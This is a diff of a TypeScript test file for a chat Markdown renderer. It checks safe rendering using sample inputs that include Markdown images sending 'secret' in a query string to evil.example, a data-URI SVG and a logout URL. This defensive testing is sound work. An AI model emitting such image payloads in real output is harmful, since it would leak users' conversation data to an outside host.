@@ -11,7 +11,7 @@ const show = (text: string, done = true) =>
     <MantineProvider env="test">
       <Markdown text={text} done={done} />
     </MantineProvider>,
-  ).container;
+  ).container.querySelector<HTMLElement>(".chat-markdown")!;
 
 it("shows HTML as text", () => {
   const at = show(
@@ -42,7 +42,7 @@ it("opens links without a referrer and an opener", () => {
 
 it.each([
   "![x](https://evil.example/?q=secret)",
-  "![x][r]\n\n[r]: https://evil.example/?q=secret",
+  "[r]: https://evil.example/?q=secret\n![x][r]",
   "[![x](https://evil.example/p.png)](https://evil.example)",
   "![x](data:image/svg+xml,<svg/>)",
   "![x](/auth/logout)",
